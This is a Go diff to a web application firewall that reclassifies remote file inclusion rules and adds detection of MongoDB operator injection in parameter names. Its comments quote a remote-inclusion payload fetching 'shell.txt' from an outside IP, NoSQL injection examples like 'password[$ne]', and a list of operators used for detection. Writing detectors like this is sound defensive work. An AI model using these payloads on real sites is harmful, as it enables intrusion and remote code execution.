@@ -8,18 +8,64 @@ import (
 )
 
 // CRS tags an attack rule with its class. modelledTags are the classes the
-// model scores (sqli, xss, rce with code injection, traversal with file
-// inclusion); outsideTags are attack classes it does not, which keep a
+// model scores (sqli, xss, rce with code injection, traversal with local
+// file inclusion); outsideTags are attack classes it does not, which keep a
 // rule outside even when it also carries a modelled tag (934110 is both
-// injection and SSRF).
+// injection and SSRF). Remote file inclusion (931xxx) is outside: a URL to
+// someone else's host is a value the model reads as a URL, and it scored
+// textbook inclusions (`?module=http://203.0.113.9/shell.txt?`) 60 to 72
+// in a blind probe, while CRS's four PL1 rules fired on 2 of 6,255 real
+// benign requests.
 var (
 	modelledTags = map[string]bool{"attack-sqli": true, "attack-xss": true, "attack-rce": true, "attack-lfi": true,
-		"attack-rfi": true, "attack-injection-php": true, "attack-injection-java": true, "attack-injection-generic": true,
+		"attack-injection-php": true, "attack-injection-java": true, "attack-injection-generic": true,
 		"attack-generic": true}
-	outsideTags = map[string]bool{"attack-ssrf": true, "attack-protocol": true, "attack-fixation": true,
+	outsideTags = map[string]bool{"attack-ssrf": true, "attack-rfi": true, "attack-protocol": true, "attack-fixation": true,
 		"attack-reputation-scanner": true, "attack-multipart-header": true, "attack-deprecated-header": true,
 		"attack-disclosure": true}
 )
+
+// mongoOperators are MongoDB's query operators, the ones an injection
+// puts in a parameter name to turn a comparison into a condition.
+var mongoOperators = map[string]bool{"ne": true, "eq": true, "gt": true, "gte": true, "lt": true, "lte": true,
+	"in": true, "nin": true, "regex": true, "where": true, "exists": true, "not": true, "or": true, "and": true,
+	"nor": true, "expr": true, "elemmatch": true, "all": true, "size": true, "type": true, "mod": true,
+	"text": true, "jsonschema": true, "function": true}
+
+// nosqlOperatorNames reports whether a 942290 match is a NoSQL operator
+// in argument names: every matched value is an ARGS_NAMES entry with a
+// `[$op]` or `.$op` segment (`password[$ne]`, `json.user.$gt`). The model
+// scores values, and such an operator's value is empty or ordinary, so
+// the block is CRS's. The same rule elsewhere stays the model's to judge:
+// on a Mixpanel cookie's `$initial_referrer` (its `$in` is unanchored) or
+// on ASP.NET WebForms names (`ctl00$Login1$RememberMe` has `$Log`).
+func nosqlOperatorNames(vars []waf.MatchedVar) bool {
+	if len(vars) == 0 {
+		return false
+	}
+	for _, v := range vars {
+		if v.Collection != "ARGS_NAMES" || !hasOperatorSegment(v.Value) {
+			return false
+		}
+	}
+	return true
+}
+
+func hasOperatorSegment(name string) bool {
+	for i := 0; i+1 < len(name); i++ {
+		if name[i+1] != '$' || (name[i] != '[' && name[i] != '.') {
+			continue
+		}
+		j := i + 2
+		for j < len(name) && (name[j] >= 'a' && name[j] <= 'z' || name[j] >= 'A' && name[j] <= 'Z') {
+			j++
+		}
+		if j > i+2 && mongoOperators[strings.ToLower(name[i+2:j])] && (j == len(name) || name[j] == ']' || name[j] == '.' || name[j] == '[') {
+			return true
+		}
+	}
+	return false
+}
 
 // unmodelled lists the inbound rules of v that count towards the blocking
 // score at paranoia level pl and are not of a class the model scores:
@@ -50,6 +96,9 @@ func unmodelled(v waf.Verdict, pl int) []int {
 		// site's policy on methods (a WebDAV PROPFIND, a CalDAV REPORT), not
 		// an attack the model could score.
 		if m.ID/1000 == 911 {
+			outside = true
+		}
+		if m.ID == 942290 && nosqlOperatorNames(m.Vars()) {
 			outside = true
 		}
 		if !modelled || outside {
